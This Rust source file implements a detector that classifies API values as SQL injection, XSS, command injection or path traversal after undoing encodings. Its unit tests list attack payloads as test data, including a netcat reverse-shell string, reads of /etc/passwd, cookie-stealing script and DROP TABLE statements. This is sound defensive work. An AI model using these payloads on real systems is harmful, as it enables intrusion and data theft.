//! Injection detection for single API values: a query parameter, a header value or a JSON string.
//!
//! [`Detector::detect`] classifies one value as SQL injection, cross-site scripting, command
//! injection or path traversal, or as nothing. It first undoes the encodings attackers hide
//! payloads behind (URL, double URL, HTML entities, `\uXXXX` escapes; see `decode.rs`) and then
//! runs every detector on the raw value and on each decoded layer:
//!
//! - SQL injection and XSS: libinjection's algorithms through `libinjectionrs`, a Rust port of
//!   libinjection (SQL tokenizer + folding + its fingerprint set; HTML5 tokenizer + its attribute
//!   and tag blacklists). No C, no build-time download.
//! - command injection and path traversal: small rule sets of our own (`cmdi.rs`,
//!   `traversal.rs`), written to stay quiet on names, e-mails, URLs, prices, dates and free text;
//!   plus one XSS rule of our own: a value that is a `javascript:` / `vbscript:` /
//!   `data:text/html` URL.
//!
//! A [`Finding`] names the kind and a stable rule (for SQL injection, libinjection's fingerprint,
//! which is made of token classes such as `s&1`): never the value itself, so findings can go into
//! responses, audit lines and metrics labels.
//!
//! Work is bounded: a value is inspected up to [`Limits::max_len`] bytes (its head and its tail
//! when longer), decoding runs at most [`Limits::max_rounds`] rounds, every step is linear in the
//! inspected length, nothing backtracks and nothing panics on any input.
//!
//! ```
//! use vigil_detect::{Config, Detector, Kind};
//!
//! let detector = Detector::new(Config::default());
//! let finding = detector.detect(b"1%27%20OR%20%271%27%3D%271");
//! assert_eq!(finding.map(|f| f.kind), Some(Kind::Sqli));
//! assert_eq!(finding.map(|f| f.decode_rounds), Some(1));
//! assert_eq!(finding.map(|f| f.signature()).as_deref(), Some("sqli:s&sos"));
//! assert_eq!(detector.detect(b"O'Brien"), None);
//! ```

mod cmdi;
mod decode;
mod traversal;

use std::fmt;

/// The class of attack a value carries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    Sqli,
    Xss,
    CommandInjection,
    PathTraversal,
}

impl Kind {
    /// Stable code for responses, audit lines and metrics labels.
    pub fn code(self) -> &'static str {
        match self {
            Kind::Sqli => "sqli",
            Kind::Xss => "xss",
            Kind::CommandInjection => "command_injection",
            Kind::PathTraversal => "path_traversal",
        }
    }
}

impl fmt::Display for Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.code())
    }
}

/// libinjection's SQL fingerprint of a value (up to 5 token classes, e.g. `s&sos`): it describes
/// the shape of the SQL, not its text, so it is safe to log.
#[derive(Clone, Copy, PartialEq, Eq, Hash)]
pub struct SqlFingerprint {
    bytes: [u8; 8],
    len: u8,
}

impl SqlFingerprint {
    fn from_libinjection(fp: &libinjectionrs::Fingerprint) -> Self {
        let mut bytes = [0u8; 8];
        let src = fp.as_str().as_bytes();
        let len = src.len().min(bytes.len());
        bytes[..len].copy_from_slice(&src[..len]);
        SqlFingerprint {
            bytes,
            len: len as u8,
        }
    }

    pub fn as_str(&self) -> &str {
        std::str::from_utf8(&self.bytes[..usize::from(self.len)]).unwrap_or("")
    }
}

impl fmt::Debug for SqlFingerprint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SqlFingerprint({:?})", self.as_str())
    }
}

/// What [`Detector::detect`] found in a value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Finding {
    pub kind: Kind,
    /// Which rule matched, e.g. `sqli:libinjection`, `cmdi:separator`, `traversal:dotdot`.
    pub rule: &'static str,
    /// For SQL injection, libinjection's fingerprint of the matching form of the value.
    pub fingerprint: Option<SqlFingerprint>,
    /// How many decoding rounds it took to reveal the payload (0: it was in the raw value).
    pub decode_rounds: u8,
}

impl Finding {
    /// A short stable signature: `sqli:s&1`, `xss:libinjection`, `cmdi:separator`, ...
    pub fn signature(&self) -> String {
        match &self.fingerprint {
            Some(fp) => format!("{}:{}", self.kind.code(), fp.as_str()),
            None => self.rule.to_owned(),
        }
    }
}

/// Bounds on the work done per value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Bytes inspected per value. A longer value is inspected on its first and its last
    /// `max_len` bytes, where padding attacks put their payload. The libinjection SQLi port
    /// costs up to ~0.6 us per byte on adversarial shapes: keep this small.
    pub max_len: usize,
    /// Decoding rounds (each undoes one layer of URL / entity / escape encoding).
    pub max_rounds: u8,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_len: 4 * 1024,
            max_rounds: 3,
        }
    }
}

/// Which detectors run and within which limits. `Default` enables all four.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Config {
    pub sqli: bool,
    pub xss: bool,
    pub command_injection: bool,
    pub path_traversal: bool,
    pub limits: Limits,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            sqli: true,
            xss: true,
            command_injection: true,
            path_traversal: true,
            limits: Limits::default(),
        }
    }
}

/// A configured detector; cheap to build, `Send + Sync`, share one per configuration.
#[derive(Debug, Clone, Default)]
pub struct Detector {
    config: Config,
}

/// Classifies `input` with every detector and the default limits.
pub fn detect(input: &[u8]) -> Option<Finding> {
    Detector::default().detect(input)
}

impl Detector {
    pub fn new(config: Config) -> Self {
        Detector { config }
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    /// Classifies one value. Returns the first finding, checking the raw value before its
    /// decoded forms and, within a form, SQLi, XSS, command injection, path traversal in order.
    pub fn detect(&self, input: &[u8]) -> Option<Finding> {
        if plain_token(input) {
            return None;
        }
        self.detect_all(input)
    }

    /// [`Detector::detect`] without the plain-token shortcut.
    fn detect_all(&self, input: &[u8]) -> Option<Finding> {
        let max = self.config.limits.max_len.max(1);
        if input.len() <= max {
            return self.detect_window(input);
        }
        let head = &input[..max];
        let tail = &input[input.len() - max..];
        self.detect_window(head)
            .or_else(|| self.detect_window(tail))
    }

    fn detect_window(&self, input: &[u8]) -> Option<Finding> {
        let mut current: Option<Vec<u8>> = None;
        for round in 0..=self.config.limits.max_rounds {
            let form = current.as_deref().unwrap_or(input);
            if let Some(mut finding) = self.detect_form(form) {
                finding.decode_rounds = round;
                return Some(finding);
            }
            if round == self.config.limits.max_rounds {
                break;
            }
            match decode::decode_round(form) {
                Some(next) => current = Some(next),
                None => break,
            }
        }
        None
    }

    /// Every enabled detector over one form (raw or decoded) of the value.
    fn detect_form(&self, form: &[u8]) -> Option<Finding> {
        let found = |kind, rule, fingerprint| Finding {
            kind,
            rule,
            fingerprint,
            decode_rounds: 0,
        };
        let norm = decode::normalize(form);
        if self.config.sqli {
            // libinjection reads SQL comments and ASCII whitespace itself; the spaced form also
            // catches Unicode spaces and comment-split keywords (`UN/**/ION`).
            let spaced = decode::fold_spaces(form);
            for candidate in std::iter::once(form).chain(spaced.as_deref()) {
                let result = libinjectionrs::detect_sqli(candidate);
                if result.is_injection() {
                    let fp = result
                        .fingerprint
                        .as_ref()
                        .map(SqlFingerprint::from_libinjection);
                    return Some(found(Kind::Sqli, "sqli:libinjection", fp));
                }
            }
        }
        if self.config.xss {
            if libinjectionrs::detect_xss(form).is_injection() {
                return Some(found(Kind::Xss, "xss:libinjection", None));
            }
            if is_script_url(&norm) {
                return Some(found(Kind::Xss, "xss:script-url", None));
            }
        }
        if self.config.command_injection
            && let Some(rule) = cmdi::scan(&norm)
        {
            return Some(found(Kind::CommandInjection, rule, None));
        }
        if self.config.path_traversal
            && let Some(rule) = traversal::scan(&norm)
        {
            return Some(found(Kind::PathTraversal, rule, None));
        }
        None
    }
}

/// Whether `v` is one plain token (an id, a number, a name, an e-mail address: letters, digits,
/// `_ @ .`, no `..`), which no detector flags in any form: nothing to decode, no space, quote,
/// operator, bracket, slash or colon for SQL, markup, a shell or a path to use (`-` and `,` are
/// operators to SQL: libinjection flags `1-null`). Many API values are such tokens; they skip
/// the detectors (`plain_tokens_are_never_flagged` holds the detectors to it).
fn plain_token(v: &[u8]) -> bool {
    v.iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'@' | b'.'))
        && !v.windows(2).any(|w| w == b"..")
}

/// A value that is a script URL (`javascript:`, `vbscript:`, `data:text/html`): libinjection flags
/// these only inside an attribute, but an API value often lands in an `href` as is. Browsers
/// ignore whitespace and control bytes inside the scheme, so those are skipped here too.
fn is_script_url(norm: &[u8]) -> bool {
    const SCHEMES: &[&[u8]] = &[b"javascript:", b"vbscript:", b"data:text/html"];
    let mut compact = norm
        .iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace() && !b.is_ascii_control());
    let mut prefix = [0u8; 14];
    let mut len = 0;
    for slot in prefix.iter_mut() {
        match compact.next() {
            Some(b) => {
                *slot = b;
                len += 1;
            }
            None => break,
        }
    }
    SCHEMES.iter().any(|s| prefix[..len].starts_with(s))
}

/// Shared by the unit tests of the rule-based scanners.
#[cfg(test)]
mod rule_tests {
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub(crate) enum Expect {
        Hit,
        Quiet,
    }

    /// Runs `scan` over the normalized form of each case, as [`super::Detector`] does.
    pub(crate) fn check(scan: fn(&[u8]) -> Option<&'static str>, expect: Expect, cases: &[&str]) {
        for case in cases {
            let rule = scan(&crate::decode::normalize(case.as_bytes()));
            match expect {
                Expect::Hit => assert!(rule.is_some(), "missed {case:?}"),
                Expect::Quiet => assert_eq!(rule, None, "false positive on {case:?}"),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The shortcut in [`Detector::detect`] must not hide anything the detectors would flag:
    /// every token of up to three fragments (SQL words and numbers, commands, markup words,
    /// path words, the allowed punctuation) that counts as plain goes through every detector
    /// in every decoded form, and none may flag it.
    #[test]
    fn plain_tokens_are_never_flagged() {
        const PARTS: &[&str] = &[
            "1",
            "0",
            "9",
            "1e1",
            "0x1f",
            "or",
            "OR",
            "and",
            "union",
            "select",
            "sleep",
            "benchmark",
            "admin",
            "x",
            "id",
            "ls",
            "cat",
            "etc",
            "passwd",
            "javascript",
            "alert",
            "script",
            "onerror",
            "null",
            "true",
            "-",
            ".",
            ",",
            "@",
            "_",
            "shadow",
            "win",
            "ini",
            "system32",
        ];
        let d = Detector::default();
        let mut checked = 0;
        for a in PARTS {
            for b in PARTS {
                for c in PARTS {
                    let v = format!("{a}{b}{c}");
                    if plain_token(v.as_bytes()) {
                        assert_eq!(
                            d.detect_all(v.as_bytes()),
                            None,
                            "{v:?} is plain but flagged"
                        );
                        checked += 1;
                    }
                }
            }
        }
        assert!(checked > 20_000, "{checked}");
        for quiet_looking in [
            "1-null",
            "1,2",
            "a..b",
            "javascript:x",
            "1+or+1",
            "a b",
            "%27",
        ] {
            assert!(!plain_token(quiet_looking.as_bytes()), "{quiet_looking}");
        }
    }

    fn kind(s: &str) -> Option<Kind> {
        detect(s.as_bytes()).map(|f| f.kind)
    }

    fn assert_all(kind_expected: Kind, payloads: &[&str]) {
        for p in payloads {
            assert_eq!(kind(p), Some(kind_expected), "payload {p:?}");
        }
    }

    #[test]
    fn sql_injection() {
        assert_all(
            Kind::Sqli,
            &[
                "1' OR '1'='1",
                "1 OR 1=1",
                "' OR 1=1 --",
                "admin'--",
                "1; DROP TABLE users",
                "1 UNION SELECT username, password FROM users",
                "1' AND SLEEP(5)#",
                "' UNION SELECT NULL,NULL--",
                "1 AND 1=CONVERT(int,(SELECT @@version))",
                "-1' UNION/**/SELECT/**/1,2,3--",
                "1%27%20OR%20%271%27%3D%271",
                "1%2527%2520OR%25201%253D1--",
                "1\u{00A0}UNION\u{00A0}SELECT\u{00A0}password\u{00A0}FROM\u{00A0}users",
            ],
        );
    }

    #[test]
    fn cross_site_scripting() {
        assert_all(
            Kind::Xss,
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "\"><script>alert(document.cookie)</script>",
                "javascript:alert(1)",
                "<iframe src=\"javascript:alert(1)\">",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
                "<body onload=alert('x')>",
            ],
        );
    }

    #[test]
    fn command_injection() {
        assert_all(
            Kind::CommandInjection,
            &[
                "127.0.0.1; cat /etc/passwd",
                "example.com && whoami",
                "$(whoami)",
                "`id`",
                "x|nc 10.0.0.1 4444 -e /bin/sh",
                "127.0.0.1%0Aid",
                "8.8.8.8%3B%20ls%20-la",
            ],
        );
    }

    #[test]
    fn path_traversal() {
        assert_all(
            Kind::PathTraversal,
            &[
                "../../../../etc/passwd",
                "..%2F..%2F..%2Fetc%2Fpasswd",
                "..%252F..%252F..%252Fetc%252Fpasswd",
                "%2e%2e%2f%2e%2e%2fconfig",
                "..%c0%af..%c0%afboot.ini",
                "..\\..\\..\\windows\\win.ini",
                "/proc/self/environ",
                "\\u002e\\u002e/\\u002e\\u002e/secret",
            ],
        );
    }

    #[test]
    fn ordinary_values_pass() {
        for v in [
            "",
            "O'Brien",
            "Dunkin' Donuts",
            "It's a nice day, isn't it?",
            "john.o'reilly@example.com",
            "Jean-Luc Picard",
            "Mary-Kate & Ashley",
            "https://example.com/search?q=shoes&size=42&sort=price-asc",
            "$19.99",
            "1,299.00 EUR",
            "-42",
            "3.14159",
            "2024-05-17T12:34:56Z",
            "17/05/2024",
            "+1 (555) 010-9999",
            "{\"a\": [1, 2, 3], \"b\": null}",
            "Select a size from the list; then click Order.",
            "Please select one option or the other",
            "Drop me a line at 5pm",
            "a < b and c > d",
            "Tom & Jerry; the cat and the mouse",
            "Wait... what?",
            "Use the ../ sibling folder for assets",
            "C:\\Users\\alice\\Documents\\report.pdf",
            "550e8400-e29b-41d4-a716-446655440000",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_123",
            "Ünïcödé façade — “quoted” ‘text’",
            "100%",
            "50% off & free shipping",
        ] {
            assert_eq!(detect(v.as_bytes()), None, "false positive on {v:?}");
        }
    }

    #[test]
    fn ordinary_header_values_pass() {
        // What the demo's curl and ordinary browsers and API clients send.
        for v in [
            "curl/7.88.1",
            "*/*",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 \
             (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
            "python-requests/2.31.0",
            "okhttp/4.12.0",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
            "application/json; charset=utf-8",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            "en-GB,en;q=0.9,fr;q=0.8",
            "gzip, deflate, br",
            "session=8f14e45f; theme=dark; consent=yes",
            "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
            "Basic dXNlcjpwYXNzd29yZA==",
            "https://app.example.com/orders?page=2&per_page=50",
            "no-cache, no-store, must-revalidate",
            "W/\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
            "198.18.0.10, 10.0.0.1",
            "for=198.18.0.10;proto=https;by=203.0.113.43",
            "keep-alive",
            "max-age=31536000; includeSubDomains",
            "bytes=0-1023",
            "Sat, 05 Dec 2026 13:24:51 GMT",
            "\"Chromium\";v=\"120\", \"Not?A_Brand\";v=\"24\"",
        ] {
            assert_eq!(detect(v.as_bytes()), None, "false positive on {v:?}");
        }
    }

    #[test]
    fn findings_do_not_echo_the_value() {
        let payload = "1' OR 'secretvalue'='secretvalue";
        let finding = detect(payload.as_bytes());
        assert!(finding.is_some());
        let text = finding
            .map(|f| format!("{f:?} {}", f.signature()))
            .unwrap_or_default();
        assert!(!text.contains("secretvalue"), "{text}");
        assert!(text.starts_with("Finding"), "{text}");
    }

    #[test]
    fn signature_is_stable() {
        let a = detect(b"1' OR '1'='1").map(|f| f.signature());
        let b = detect(b"2' OR '3'='3").map(|f| f.signature());
        assert_eq!(a, b);
        assert_eq!(
            detect(b"; cat /etc/passwd").map(|f| f.signature()),
            Some("cmdi:separator".to_owned())
        );
    }

    #[test]
    fn decode_rounds_are_reported_and_capped() {
        let once = detect(b"%3Cscript%3Ealert(1)%3C/script%3E");
        assert_eq!(once.map(|f| f.decode_rounds), Some(1));
        // Three layers of URL encoding: found with the default three rounds, not with one.
        let capped = Detector::new(Config {
            limits: Limits {
                max_rounds: 1,
                ..Limits::default()
            },
            ..Config::default()
        });
        assert_eq!(capped.detect(b"%25253Cscript%25253Ealert(1)"), None);
        let triple = detect(b"%25253Cscript%25253Ealert(1)");
        assert_eq!(
            triple.map(|f| (f.kind, f.decode_rounds)),
            Some((Kind::Xss, 3))
        );
    }

    #[test]
    fn disabled_kinds_are_not_reported() {
        let only_sqli = Detector::new(Config {
            xss: false,
            command_injection: false,
            path_traversal: false,
            ..Config::default()
        });
        assert_eq!(only_sqli.detect(b"<script>alert(1)</script>"), None);
        assert_eq!(only_sqli.detect(b"../../etc/passwd"), None);
        assert!(only_sqli.detect(b"1' OR '1'='1").is_some());
    }

    #[test]
    fn long_values_are_inspected_at_both_ends() {
        let mut padded = vec![b'a'; 100_000];
        padded.extend_from_slice(b" <script>alert(1)</script>");
        assert_eq!(detect(&padded).map(|f| f.kind), Some(Kind::Xss));
        let mut head = b"../../../etc/passwd ".to_vec();
        head.extend(std::iter::repeat_n(b'b', 100_000));
        assert_eq!(detect(&head).map(|f| f.kind), Some(Kind::PathTraversal));
    }
}
